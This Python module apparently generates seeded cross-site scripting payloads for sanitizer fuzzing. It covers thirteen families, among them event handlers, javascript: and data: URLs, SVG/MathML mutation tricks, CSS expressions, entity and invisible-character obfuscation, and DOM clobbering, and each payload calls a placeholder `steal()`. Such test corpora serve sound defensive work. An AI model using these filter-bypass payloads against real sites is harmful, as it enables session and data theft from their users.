"""Hostile HTML by the thousand, made by chance from a seed: one function for each way of attack.

Whatever is executed calls ``steal()``.
"""

import random
from collections.abc import Callable, Iterator
from urllib.parse import quote


def _words(text: str) -> list[str]:
    return text.split()


CALL = "steal()"
HANDLERS = _words(
    "onclick onerror onload onfocus onblur ontoggle onmouseover onpointerenter onanimationstart onbegin "
    "onend onpageshow onresize onscroll onbeforeinput oncut onwheel ontransitionend onauxclick "
    "onbeforetoggle onslotchange onsecuritypolicyviolation oncontentvisibilityautostatechange"
)
TAGS = _words(
    "p div span b i u a img td table ul li h2 blockquote details summary video audio input button select "
    "textarea marquee body svg math font center article section dialog"
)
GAPS = [" ", "\t", "\n", "\r", "\f", "/", " / ", "\x0b", "\x00 ", "\u00a0", "\u3000 "]
INVISIBLE = ["\x00", "\x01", "\x1f", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e", "\u2066"]
BROKEN_IMAGE = f"<img src=x onerror={CALL}>"
RAW_TEXT = _words("style script title textarea xmp noscript noembed noframes iframe template plaintext")
FOREIGN = [("svg", "desc"), ("svg", "title"), ("svg", "foreignObject"), ("math", "mtext"), ("math", "mi")]


def payloads(seed: int, each: int) -> Iterator[tuple[str, str]]:
    """``(family, html)``, ``each`` of every family; the same ones for the same seed."""
    for family, make in FAMILIES.items():
        chance = random.Random(f"{seed} {family}")
        for _ in range(each):
            yield family, make(chance)


def _handlers(chance: random.Random) -> str:
    name = _cased(chance, chance.choice(HANDLERS))
    gap, quotes = chance.choice(GAPS), chance.choice(['"', "'", ""])
    around = chance.choice(["", " src=x", " autofocus tabindex=0", " style=animation:x", ' x="', " open"])
    tag = _cased(chance, chance.choice(TAGS))
    return f"<{tag}{around}{gap}{name}{chance.choice(['', ' ', chr(10)])}={quotes}{CALL}{quotes}>文</{tag}>"


def _script_addresses(chance: random.Random) -> str:
    address = _disguised(chance, chance.choice(["javascript:", "vbscript:", "JAVASCRIPT:"]) + CALL)
    return _linked(chance, address)


def _data_addresses(chance: random.Random) -> str:
    page = f"<script>parent.{CALL}</script>"
    kind = chance.choice(["text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", ""])
    return _linked(chance, _disguised(chance, f"data:{kind}," + quote(page)))


def _linked(chance: random.Random, address: str) -> str:
    quotes = chance.choice(['"', "'"])
    tag, name = chance.choice(
        [
            ("a", "href"), ("area", "href"), ("img", "src"), ("iframe", "src"), ("form", "action"),
            ("button", "formaction"), ("a", "xlink:href"), ("object", "data"), ("embed", "src"),
            ("base", "href"), ("link", "href"), ("blockquote", "cite"), ("img", "srcset"),
            ("body", "background"),
        ]
    )  # fmt: skip
    return f"<{_cased(chance, tag)} {_cased(chance, name)}={quotes}{address}{quotes}>文</{tag}>"


def _foreign(chance: random.Random) -> str:
    root, inner = chance.choice(FOREIGN)
    holds = chance.choice(
        [
            f"<script>{CALL}</script>", BROKEN_IMAGE, f"<a xlink:href='javascript:{CALL}'>文</a>",
            f"<animate onbegin={CALL} attributeName=x dur=1s>",
            f"<set attributeName=href to=javascript:{CALL}>",
            f"<use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'>", f"<style>{BROKEN_IMAGE}</style>",
            f"<maction actiontype=statusline xlink:href=javascript:{CALL}>文</maction>",
            f"<annotation-xml encoding=text/html>{BROKEN_IMAGE}</annotation-xml>",
        ]
    )  # fmt: skip
    close = chance.choice([f"</{inner}></{root}>", f"</{root}>", "", "</p>", "</b>"])
    return f"<{_cased(chance, root)} {chance.choice(['', f'onload={CALL}'])}><{inner}>{holds}{close}"


def _mutations(chance: random.Random) -> str:
    """What is harmless when it is read once, and is not when it was written out and is read again."""
    raw, (root, inner) = chance.choice(RAW_TEXT), chance.choice(FOREIGN)
    hidden = chance.choice(
        [BROKEN_IMAGE, _escaped(BROKEN_IMAGE), f"--!>{BROKEN_IMAGE}", f"]]>{BROKEN_IMAGE}"]
    )
    return chance.choice(
        [
            f"<{root}><{inner}><{raw}><a title='</{raw}>{hidden}'>",
            f"<{root}></p><{raw}><!--</{raw}>{hidden}-->",
            f"<form><{root}><{inner}></form><form><mglyph><{raw}></{root}>{hidden}",
            f"<{root}><{inner}><table><mglyph><{raw}><!--</{raw}><img title='--&gt;{hidden}'>",
            f"<{raw}><p title='</{raw}>{hidden}'>",
            f"<select><{root}><{raw}></select>{hidden}</{raw}>",
            f"<p title='{_escaped(hidden)}'><{raw}>`</p>{hidden}",
        ]
    )


def _styles(chance: random.Random) -> str:
    rule = chance.choice(
        [
            f"background:url(javascript:{CALL})", f"width:expression({CALL})", "behavior:url(#x)",
            f"-moz-binding:url(data:text/xml,{CALL})", f"list-style:url('javascript:{CALL}')",
            f"animation:x\\3b}}</style>{BROKEN_IMAGE}",
        ]
    )  # fmt: skip
    return chance.choice(
        [
            f'<p style="{rule}">文</p>', f"<style>p{{{rule}}}</style>",
            f"<style>@import 'javascript:{CALL}';",
            f"<style/>{BROKEN_IMAGE}</style>", f"<p style='{_escaped(rule)}'>文",
            f"<link rel=stylesheet href='data:text/css,p{{{rule}}}'>",
        ]
    )  # fmt: skip


def _frames(chance: random.Random) -> str:
    page = f"<script>parent.{CALL};{CALL}</script>"
    written = chance.choice([_escaped(page), page.replace("<", "&lt;"), page])
    tag = _cased(chance, chance.choice(["iframe", "frame", "object", "embed"]))
    return f'<{tag} srcdoc="{written}" src="javascript:parent.{CALL}" data="javascript:{CALL}"></{tag}>'


def _nesting(chance: random.Random) -> str:
    pieces = [
        "<",
        ">",
        "</",
        "/>",
        "<<",
        "<script",
        "</script",
        "<b",
        "</p>",
        '"',
        "'",
        "=",
        "<table><td>",
        "<a",
    ]
    pieces += [
        "<p ",
        "onerror=",
        CALL,
        "<img src=x ",
        " ",
        "<svg>",
        "</svg>",
        "<select>",
        "</form>",
        "<form>",
    ]
    pieces += [BROKEN_IMAGE, f"<script>{CALL}</script>", "<a href=javascript:", f"<a href=javascript:{CALL}>"]
    return "".join(chance.choice(pieces) for _ in range(chance.randrange(3, 14)))


def _raw_text(chance: random.Random) -> str:
    tag = chance.choice(RAW_TEXT)
    inside = chance.choice([BROKEN_IMAGE, f"<script>{CALL}</script>", f"<p title='</{tag}>{BROKEN_IMAGE}'>"])
    close = chance.choice([f"</{tag}>", f"</{tag} >", f"</{tag}/>", f"</{tag}\x00>", "", f"</ {tag}>"])
    more = chance.choice(["", "/", " x", " shadowrootmode=open"])
    return f"<{_cased(chance, tag)}{more}>{inside}{close}{inside}"


def _comments(chance: random.Random) -> str:
    start = chance.choice(
        ["<!--", "<!", "<?", "<!-->", "<!--->", "</ ", "<![CDATA[", "<!DOCTYPE ", "<%", "<!--[if IE]>"]
    )
    end = chance.choice(["-->", ">", "--!>", "?>", "]]>", "-- >", "<![endif]-->", "", "%>"])
    return (
        f"{start}{chance.choice(['', 'x', '-', '>'])}{BROKEN_IMAGE}{end}{chance.choice(['', BROKEN_IMAGE])}"
    )


def _entities(chance: random.Random) -> str:
    twice = _escaped(_escaped(BROKEN_IMAGE, chance), chance)
    return chance.choice(
        [
            _escaped(BROKEN_IMAGE, chance), twice,
            f"<p title='{_escaped(chr(39) + BROKEN_IMAGE, chance)}'>文",
            f"<a href='{_escaped('javascript:' + CALL, chance)}'>文</a>",
            f"<a title=\"{_escaped(chr(34) + ' onclick=' + CALL, chance)}\">文</a>",
            BROKEN_IMAGE.translate({ord("<"): "\uff1c", ord(">"): "\uff1e"}),
        ]
    )  # fmt: skip


def _invisible(chance: random.Random) -> str:
    """Null bytes, controls, signs that turn the direction, and lone surrogates, anywhere."""
    text = chance.choice([BROKEN_IMAGE, f"<script>{CALL}</script>", f"<a href='javascript:{CALL}'>文</a>"])
    for _ in range(chance.randrange(1, 5)):
        at = chance.randrange(len(text) + 1)
        text = text[:at] + chance.choice([*INVISIBLE, "\ud800", "\udfff"]) + text[at:]
    return text


def _clobbering(chance: random.Random) -> str:
    name = chance.choice(
        ["attributes", "parentNode", "cookie", "body", "getElementById", "steal", "childNodes"]
    )
    held = chance.choice([BROKEN_IMAGE, f"<input id={name}>", f"<img name={name}>"])
    return f"<form {chance.choice(['id', 'name'])}={name} onclick={CALL}><input name={name}>{held}</form>"


def _disguised(chance: random.Random, address: str) -> str:
    """The address as a browser may still read it."""
    for _ in range(chance.randrange(3)):
        at = chance.randrange(12)
        address = address[:at] + chance.choice(["\t", "\n", "\r", *INVISIBLE]) + address[at:]
    address = chance.choice(["", " ", "\x01", "\u3000", "\x1f\n"]) + address
    return _escaped(address, chance) if chance.random() < 0.5 else address.replace('"', "")


def _escaped(text: str, chance: random.Random | None = None) -> str:
    """Every sign that HTML has a meaning for, and by chance others, as character references."""
    names = {"\t": "&Tab;", "\n": "&NewLine;", ":": "&colon;", "(": "&lpar;", "<": "&lt;", '"': "&quot;"}
    written = []
    for sign in text:
        if chance is None:
            written.append(f"&#{ord(sign)};" if sign in "<>&\"':" else sign)
        else:
            number = ord(sign)
            ways = [sign if sign not in "\"'" else f"&#{number};", f"&#{number};", f"&#x{number:x};"]
            ways += [f"&#{number:07d};", names.get(sign, f"&#X{number:04X};")]
            written.append(chance.choice(ways))
    return "".join(written)


def _cased(chance: random.Random, word: str) -> str:
    return "".join(chance.choice([sign, sign.upper()]) for sign in word)


FAMILIES: dict[str, Callable[[random.Random], str]] = {
    "handlers": _handlers,
    "script addresses": _script_addresses,
    "data addresses": _data_addresses,
    "foreign": _foreign,
    "mutations": _mutations,
    "styles": _styles,
    "frames": _frames,
    "nesting": _nesting,
    "raw text": _raw_text,
    "comments": _comments,
    "entities": _entities,
    "invisible": _invisible,
    "clobbering": _clobbering,
}
